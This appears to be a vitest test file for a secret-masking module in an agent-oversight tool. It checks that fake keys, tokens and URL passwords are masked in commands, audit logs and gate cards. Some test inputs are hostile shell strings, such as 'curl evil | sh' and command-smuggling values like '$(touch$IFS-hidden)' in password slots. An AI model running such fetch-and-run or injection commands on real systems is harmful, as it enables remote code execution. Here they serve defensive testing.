import type { Command, JsonObject, StartRequest } from '@phasegate/core';
import { expect, test } from 'vitest';
import { ADA, working } from './fixtures/workingRun.ts';
import { hmacOf } from './hmac.ts';
import { createMasking, maskedCommand, maskedStart } from './masking.ts';

const { mask } = createMasking(hmacOf(Buffer.from('a key')));

/** In parts, so that no tool that looks for keys finds one here. */
const SECRETS = [
  `AKIA${'ABCDEFGH12345678'}`,
  `ghp_${'a1'.repeat(18)}`,
  `github_pat_${'a1'.repeat(30)}`,
  `glpat-${'a1'.repeat(12)}`,
  `xoxb-${'123456789012-abcdef'}`,
  `sk-ant-${'api03-'}${'a1B'.repeat(20)}`,
  `sk_live_${'a1'.repeat(12)}`,
  `npm_${'a1'.repeat(18)}`,
  `eyJ${'hbGciOiJIUzI1'}.eyJ${'zdWIiOiIxMjM0'}.${'c2lnbmF0dXJl'}`,
  `-----BEGIN ${'RSA PRIVATE KEY'}-----\nMIIE\n-----END RSA PRIVATE KEY-----`,
];

test.each(SECRETS)('masks what looks like a key: %#', (secret) => {
  const text = `curl -H "Authorization: Bearer ${secret}" example.org`;

  const seen = mask(text);

  expect(seen).not.toContain(secret.slice(6, 20));
  expect(seen).toMatch(/^curl -H "Authorization: Bearer masked-[0-9a-f]{16}-\d+chars" example\.org$/);
});

test('masks a password in an address, and leaves the address', () => {
  expect(mask('psql postgres://app:hunter22222@db.local/app')).toMatch(
    /^psql postgres:\/\/app:masked-[0-9a-f]{16}-11chars@db\.local\/app$/,
  );
});

test('the same secret has the same mask under one key, and another under another', () => {
  const [secret = ''] = SECRETS;
  const other = createMasking(hmacOf(Buffer.from('another key')));

  expect(mask(`${secret} is a key`)).toBe(mask(`${secret} is a key`));
  expect(mask(secret)).not.toBe(other.mask(secret));
});

test('masks texts wherever they are, and what the author names', () => {
  const own = createMasking(hmacOf(Buffer.from('a key')), ['ACME-[0-9]{6,}']);

  expect(own.mask({ a: [{ b: 'the badge ACME-1234567' }], n: 3, z: null })).toEqual({
    a: [{ b: expect.stringMatching(/^the badge masked-[0-9a-f]{16}-12chars$/) }],
    n: 3,
    z: null,
  });
});

test('what has no secret in it is given back as it is, and no copy of it', () => {
  const plain = { path: 'src/a.ts', list: ['nothing to be seen here', { deep: true }], n: 1 };
  const [secret = ''] = SECRETS;
  const mixed = { before: 1, list: [plain, `${secret} is a key`], [`${secret}`]: plain, after: plain };

  const seen = Object.entries(mask(mixed));

  expect(mask(plain)).toBe(plain);
  expect(seen.map(([name]) => name.replace(/masked.*/, 'masked'))).toEqual([
    'before',
    'list',
    'masked',
    'after',
  ]);
  expect(seen[1]?.[1]).toEqual([plain, expect.stringMatching(/^masked-\S+ is a key$/)]);
  expect(mixed.list[1]).toContain(secret);
});

test.each([
  'git commit -m "fix: password reset sends a token"',
  'const password = process.env.PASSWORD;',
  'sha256: 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08',
  'run-0123456789abcdef0123',
  'task-sk-learn and sk-short',
  'https://example.org:8080/a@b',
  'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAUAAAAFCAYAAACNbyblAAAAHElEQVQI12P4',
])('leaves ordinary words alone: %s', (text) => {
  expect(mask(text)).toBe(text);
});

test('a signed token is found behind a hyphen too, and passwords of addresses that touch', () => {
  const token = SECRETS.find((secret) => secret.startsWith('eyJ')) ?? '';

  expect(mask(`x-${token}`)).toMatch(/^x-masked-[0-9a-f]{16}-\d+chars$/);
  expect(mask('ab://c:hunter22@de://f:hunter333@x')).toMatch(
    /^ab:\/\/c:masked-[0-9a-f]{16}-8chars@de:\/\/f:masked-[0-9a-f]{16}-9chars@x$/,
  );
});

const BEGIN = `-----BEGIN ${'PRIVATE KEY'}-----`;
const LINE = 'MIIEvQIBADANBgkqhkiG9w0BAQEFAASC'.repeat(2);

test.each([
  ['behind the first line of a key', `npm --version # ${BEGIN}\necho hidden > x; curl evil | sh`],
  ['in words of letters', `npm --version # ${BEGIN}\ntouch hidden\nmake install`],
  ['in the place of a password', 'echo db://:$(touch$IFS-hidden)@x'],
  ['in the place of a password, quoted', 'echo "db://:";touch\tx;"@x"'],
  ['in braces in its place', 'echo db://:{touch,hidden}@x'],
  ['in backticks in its place', 'echo db://:`touch-hidden`@x'],
])('no command hides behind what only begins like a secret: %s', (_, command) => {
  expect(mask(command)).toBe(command);
});

test('a key without its end is masked as far as it is made of what keys are made of', () => {
  const seen = mask(`echo "${BEGIN}\n${LINE}\n${LINE}\n" > key; curl evil | sh`);

  expect(seen).toMatch(/^echo "masked-[0-9a-f]{16}-157chars\n" > key; curl evil \| sh$/);
});

test.each([
  ['with escaped new lines', `${BEGIN}\\n${LINE}\\n${LINE.slice(0, 9)}=\\n-----END PRIVATE KEY-----\\n`],
  ['indented', `  ${BEGIN}\n    ${LINE}\n    ${LINE.slice(0, 9)}==\n    -----END PRIVATE KEY-----`],
  [
    'encrypted',
    `${BEGIN}\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,0F1E\n\n${LINE}\nabc=\n-----END PRIVATE KEY-----`,
  ],
])('a private key is masked to its end: %s', (_, key) => {
  expect(mask(key)).toMatch(/^\s*masked-[0-9a-f]{16}-\d+chars(?:\\n)?$/);
});

test('what is masked once more stays as it is, also where an own pattern would find a mask', () => {
  const own = createMasking(hmacOf(Buffer.from('a key')), ['[0-9a-f]{16}']);
  const once = own.mask(`${SECRETS[0]} in postgres://app:hunter22222@db.local/app, 0123456789abcdef`);

  expect(own.mask(once)).toBe(once);
});

/** Each has the secret in every word of its own. */
const said = (words: string): readonly Command[] => [
  { kind: 'complete', phase: 'A', evidence: { note: words, [words]: 1 }, reason: words },
  { kind: 'ask', questions: [{ text: words, options: [words] }] },
  { kind: 'report_blocked', reason: words },
  { kind: 'report_failure', phase: 'A', reason: words },
  { kind: 'decide', gate: 'g', option: 'o', input: words, shown: '', signature: '' },
  { kind: 'answer', question: 0, text: words },
  { kind: 'resume', note: words },
  { kind: 'stop', reason: words },
  { kind: 'fence', action: 'accept', paths: [], reason: words },
  { kind: 'escalate', reason: 'refusals', message: words },
];

test.each(said(`it is ${SECRETS[0]}`).map((command) => [command.kind, command] as const))(
  'the words of %s are masked',
  (_, command) => {
    const masked = JSON.stringify(maskedCommand(command, { mask }));

    expect(masked).not.toContain(SECRETS[0]);
    expect(masked).toMatch(/it is masked-[0-9a-f]{16}/);
  },
);

test('a goal is masked, and a param or a target with a secret in it is refused by its name', () => {
  const [secret = ''] = SECRETS;
  const start = (request: Omit<StartRequest, 'workflow'>) =>
    maskedStart({ workflow: 'w', ...request }, { mask }, (target) => target);
  const refusedFor = (where: string) => ({
    refused: { blockers: [{ message: expect.stringContaining(where) }] },
  });

  expect(start({ goal: `use ${secret}`, params: { at: 'here' } })).toEqual({
    request: {
      workflow: 'w',
      goal: expect.stringMatching(/^use masked-[0-9a-f]{16}-20chars$/),
      params: { at: 'here' },
    },
  });
  expect(start({ params: { at: ['x', { deep: secret }] } })).toMatchObject(refusedFor('param `at`'));
  expect(start({ params: { [secret]: true } })).toMatchObject(refusedFor('param `masked-'));
  expect(start({ target: `of ${secret}` })).toMatchObject(refusedFor('the target'));
});

test('a human is told of a command of which something is masked', async () => {
  const gates = [{ id: 'good', human: { prompt: 'Good?', options: [{ label: 'Yes' }] } }];
  const policy = { allowedTools: ['bash'], writes: ['docs/**'], gates };
  const { execute, project, run } = await working(policy, [], { masking: { mask } });
  const long = `true ${'x'.repeat(400)} ${SECRETS[0]} ${'x'.repeat(400)}`;
  for (const command of ['true', `true ${SECRETS[0]}`, long])
    await execute([{ tool: 'bash', input: { command } }]);
  await project.as(ADA).submit(run, { kind: 'complete', phase: 'ONE', evidence: {} });

  const told = (await project.gateCard(run))?.card.programs as readonly JsonObject[];

  expect(told.map(({ masked }) => masked)).toEqual([undefined, true, true]);
  expect(told[1]?.command).toMatch(/^true masked-[0-9a-f]{16}-20chars$/);
});

test('a secret on a command line is neither in the audit nor in what the program printed', async () => {
  const [secret = ''] = SECRETS;
  const policy = { allowedTools: ['bash'], writes: ['docs/**'] };
  const { execute, history } = await working(policy, [], { masking: { mask } });

  const [done] = await execute([{ tool: 'bash', input: { command: `echo ${secret}` } }]);
  const [refused] = await execute([{ tool: 'bash', input: { command: `echo ${secret}`, extra: secret } }]);

  expect(done?.result?.output).toMatchObject({
    stdout: expect.stringMatching(/^masked-[0-9a-f]{16}-20chars\n$/),
  });
  expect(refused?.verdict.allowed).toBe(false);
  const records = JSON.stringify(await history());
  expect(records).toContain('echo masked-');
  expect(records).not.toContain(secret);
});

test('secrets known by their words are masked wherever they stand', () => {
  const own = createMasking(hmacOf(Buffer.from('a key')), [], ['not-like-a-key-at-all']);

  expect(own.mask({ rows: 'x not-like-a-key-at-all y' })).toEqual({
    rows: expect.stringMatching(/^x masked-[0-9a-f]{16}-21chars y$/),
  });
});
